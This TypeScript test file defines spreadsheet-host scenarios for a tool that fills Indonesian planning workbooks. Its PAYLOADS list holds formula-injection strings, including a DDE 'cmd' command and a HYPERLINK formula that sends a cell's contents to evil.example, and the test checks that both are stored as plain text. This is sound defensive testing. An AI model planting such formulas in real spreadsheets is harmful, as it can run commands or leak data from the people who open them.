/**
 * THE list of host scenarios (issue 8): each one is played on the Excel fake, the Sheets fake and
 * the real .xlsx writer, observed the same way (observe.ts), checked, and the three observations
 * must be equal. A scenario's `check` runs per host and asserts values, codes and cells.
 */
import type { Grid } from "../../core/grid";
import { sheetLabel } from "../../core/i18n/labels-sheet";
import { emptyPlan, type SheetPlan } from "../../core/layout/sheet-plan";
import { klungkung, KLUNGKUNG_TEXTS } from "../fixtures/grids/klungkung";
import { luwu } from "../fixtures/grids";
import type { HostDriver, Shape } from "./hosts";
import { observe, sheetRefs, shown, type Observed } from "./observe";

export interface Scenario {
  name: string;
  grids: Grid[];
  /** Plays the steps on one host; returns what each step left behind. */
  play(h: HostDriver): Promise<Observed[]>;
  /** Asserts on one host's observations (throws on a failure). */
  check(obs: Observed[]): void;
}

/** User text that must come back as the same text in every host. */
export const PAYLOADS = [
  "=1+1",
  "+62 812 3456",
  "-x pengaduan",
  "@SUM(A1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
  "baris\tdengan tab\rdan CR",
  `Panjang ${"x".repeat(4992)}`,
  "Emoji 🙂📊 pengaduan",
  "نص من اليمين إلى اليسار",
  "TRUE",
  "1.1",
  "'kutip",
];

const copy = (grids: readonly Grid[]): Grid[] =>
  grids.map((g) => ({ ...g, values: g.values.map((r) => [...r]) }));

/** Klungkung with the payloads as statements, reasons, activity titles, indicator names, units. */
function withPayloads(): Grid[] {
  const grids = copy(klungkung);
  let i = 0;
  const next = () => PAYLOADS[i++ % PAYLOADS.length];
  for (const g of grids) {
    g.values.forEach((row, r) =>
      row.forEach((v, c) => {
        if (typeof v !== "string") return;
        const no = String(row[c - 1] ?? "");
        if (KLUNGKUNG_TEXTS.includes(v)) row[c] = next();
        else if (g.sheet === "Prioritas" && c === 3 && r > 2) row[c] = next();
        else if (g.sheet === "Program" && c === 2 && /^\d+\.\d+\.\d+/.test(no)) row[c] = next();
        else if (g.sheet === "Sasaran" && c === 2 && r > 3) row[c] = `${next()} (${next()})`;
      }),
    );
  }
  return grids;
}

/** Klungkung with its sheets renamed to names that look like cells, values or worse. */
export const ODD_NAMES: Record<string, string> = {
  Asesmen: "A1",
  Prioritas: "TRUE",
  Program: "R1C1",
  Sasaran: "O'Brien & Co! 2024",
  "Indikator Keberhasilan": "مؤشرات النجاح",
};

function oddNames(): Grid[] {
  return copy(klungkung).map((g) => ({ ...g, sheet: ODD_NAMES[g.sheet] ?? g.sheet }));
}

function expectEqual<T>(label: string, got: T, want: T): void {
  const a = JSON.stringify(got);
  const b = JSON.stringify(want);
  if (a !== b) throw new Error(`${label}: expected ${b.slice(0, 300)} got ${a.slice(0, 300)}`);
}

function expectWrote(o: Observed, sheet: string): void {
  expectEqual("refused", o.refused, false);
  expectEqual("mismatches", o.mismatches, []);
  if (!o.cells[sheet] || Object.keys(o.cells[sheet]).length < 10)
    throw new Error(`${sheet} was not written`);
  if (o.problems.some((p) => p.startsWith("error")))
    throw new Error(`errors: ${o.problems.join("; ")}`);
}

/** The cell under a header of the result sheet's aspect table (first aspect row). */
function underHeader(plans: SheetPlan[], label: string): { row: number; col: number } {
  const plan = plans.find((p) => p.sheet === "Hasil Renaksi")!;
  const head = plan.cells.find((c) => c.value === label)!;
  return { row: head.row + 1, col: head.col };
}

const moreOverlay: Shape = (r) => {
  const p: SheetPlan = emptyPlan("Tidak Ada", "overlay");
  p.validations.push({
    range: { row: 2, col: 2, rows: 3, cols: 1 },
    list: ["1", "2", "3", "4"],
    allowBlank: true,
    message: "1-4",
  });
  return { ...r, plans: [...r.plans, p] };
};

const textCells = (o: Observed): string[] =>
  Object.values(o.cells).flatMap((s) => Object.values(s).filter((v) => v.startsWith("t:")));

export const SCENARIOS: Scenario[] = [
  {
    name: "fresh workbook",
    grids: klungkung,
    async play(h) {
      return [await observe(h, await h.run("fill")), await observe(h, await h.run("timeline"))];
    },
    check([fill, timeline]) {
      expectWrote(fill, "Hasil Renaksi");
      expectWrote(timeline, "Timeline Program");
      expectEqual("sheets", timeline.sheets.slice(-2), ["Hasil Renaksi", "Timeline Program"]);
      const formulas = Object.values(fill.cells["Hasil Renaksi"]).filter((v) => v.startsWith("f:"));
      if (formulas.length < 20) throw new Error(`only ${formulas.length} formulas`);
    },
  },
  {
    name: "re-run keeps user entries",
    grids: klungkung.filter((g) => g.sheet !== "Prioritas"),
    async play(h) {
      const first = await h.run("fill");
      const chosen = underHeader(first.plans, sheetLabel("col.chosen"));
      const reason = underHeader(first.plans, sheetLabel("col.reason"));
      await h.edit("Hasil Renaksi", chosen.row, chosen.col, 2);
      await h.edit("Hasil Renaksi", reason.row, reason.col, PAYLOADS[5]);
      const again = await observe(h, await h.run("fill"));
      const back = await h.readSheet("Hasil Renaksi");
      const at = (p: { row: number; col: number }) => shown(back.get(`${p.row},${p.col}`));
      return [{ ...again, picked: { reason: at(reason), chosen: at(chosen) } }];
    },
    check([again]) {
      expectWrote(again, "Hasil Renaksi");
      expectEqual("kept", again.picked, { reason: `t:${PAYLOADS[5]}`, chosen: "n:2" });
    },
  },
  {
    name: "user sheet named like a managed one (any letter case)",
    grids: [
      ...klungkung,
      { sheet: "hasil renaksi", origin: { row: 1, col: 1 }, values: [["catatan saya"]] },
      { sheet: "TIMELINE PROGRAM", origin: { row: 1, col: 1 }, values: [["jadwal saya"]] },
    ],
    async play(h) {
      const fill = await observe(h, await h.run("fill"));
      const timeline = await observe(h, await h.run("timeline"));
      const mine = (await h.readSheet("hasil renaksi")).get("1,1");
      return [fill, { ...timeline, picked: { A1: shown(mine) } }];
    },
    check([fill, timeline]) {
      expectEqual("fill refused", fill.refused, true);
      expectEqual("timeline refused", timeline.refused, true);
      if (!fill.problems.includes("error write.notOurs 'hasil renaksi'!A1"))
        throw new Error(`fill problems: ${fill.problems.join("; ")}`);
      if (!timeline.problems.includes("error write.notOurs 'TIMELINE PROGRAM'!A1"))
        throw new Error(`timeline problems: ${timeline.problems.join("; ")}`);
      expectEqual("sheets", fill.sheets, [
        ...klungkung.map((g) => g.sheet),
        "hasil renaksi",
        "TIMELINE PROGRAM",
      ]);
      expectEqual("user's A1", timeline.picked, { A1: "t:catatan saya" });
    },
  },
  {
    name: "overlay on a missing sheet",
    grids: klungkung,
    async play(h) {
      return [await observe(h, await h.run("fill", moreOverlay))];
    },
    check([fill]) {
      expectWrote(fill, "Hasil Renaksi");
      if (!fill.problems.includes("warning write.overlayMissing"))
        throw new Error(`problems: ${fill.problems.join("; ")}`);
      if (fill.sheets.includes("Tidak Ada")) throw new Error("the missing sheet was created");
    },
  },
  {
    name: "user chart on a managed sheet",
    grids: klungkung,
    async play(h) {
      await h.run("fill");
      await h.claimChart("Hasil Renaksi", "Diagram saya");
      return [await observe(h, await h.run("fill"))];
    },
    check([again]) {
      expectEqual("refused", again.refused, true);
      if (!again.problems.includes("error write.userObjects 'Hasil Renaksi'!A1"))
        throw new Error(`problems: ${again.problems.join("; ")}`);
    },
  },
  {
    name: "user image / shape on a managed sheet",
    grids: klungkung,
    async play(h) {
      await h.run("fill");
      await h.addObject("Hasil Renaksi", "Logo dinas");
      return [await observe(h, await h.run("fill"))];
    },
    check([again]) {
      expectEqual("refused", again.refused, true);
      if (!again.problems.includes("error write.userObjects 'Hasil Renaksi'!A1"))
        throw new Error(`problems: ${again.problems.join("; ")}`);
    },
  },
  {
    name: "refused input (Luwu: an aspect with no statement)",
    grids: luwu,
    async play(h) {
      return [await observe(h, await h.run("fill"))];
    },
    check([fill]) {
      expectEqual("refused", fill.refused, true);
      if (!fill.problems.some((p) => p.startsWith("error aspect.empty Kategorisasi!")))
        throw new Error(`problems: ${fill.problems.join("; ")}`);
      if (fill.sheets.includes("Hasil Renaksi")) throw new Error("a sheet was written");
    },
  },
  {
    name: "user text payloads (= + - @, cmd, HYPERLINK, tab/CR, 5,000 chars, emoji, RTL)",
    grids: withPayloads(),
    async play(h) {
      return [await observe(h, await h.run("fill")), await observe(h, await h.run("timeline"))];
    },
    check([fill, timeline]) {
      expectWrote(fill, "Hasil Renaksi");
      expectWrote(timeline, "Timeline Program");
      const texts = [...textCells(fill), ...textCells(timeline)];
      const found = PAYLOADS.filter((p) => texts.some((t) => t.includes(p)));
      if (found.length < PAYLOADS.length - 1)
        throw new Error(`payloads read back as text: ${found.length} of ${PAYLOADS.length}`);
      const formulas = [fill, timeline].flatMap((o) =>
        Object.values(o.cells).flatMap((s) => Object.values(s).filter((v) => v.startsWith("f:"))),
      );
      const leaked = formulas.filter((f) => /evil\.example|calc|SUM\(A1\)|HYPERLINK/.test(f));
      expectEqual("formulas made of user text", leaked, []);
    },
  },
  {
    name: "sheet names with quotes, spaces, !, non-Latin letters, A1 / R1C1 / TRUE",
    grids: oddNames(),
    async play(h) {
      return [await observe(h, await h.run("fill")), await observe(h, await h.run("timeline"))];
    },
    check([fill, timeline]) {
      expectWrote(fill, "Hasil Renaksi");
      expectWrote(timeline, "Timeline Program");
      const names = new Set([...fill.sheets, ...timeline.sheets]);
      const refs = [fill, timeline].flatMap((o) =>
        Object.values(o.cells).flatMap((s) =>
          Object.values(s)
            .filter((v) => v.startsWith("f:"))
            .flatMap((v) => sheetRefs(v.slice(2))),
        ),
      );
      if (refs.length === 0) throw new Error("no formula refers to a user sheet");
      const unknown = [...new Set(refs.filter((r) => !names.has(r)))];
      expectEqual("sheet references that name no sheet", unknown, []);
      if (!refs.includes("A1") || !refs.some((r) => r.startsWith("O'Brien")))
        throw new Error(`odd names not referred to: ${[...new Set(refs)].join(", ")}`);
    },
  },
];
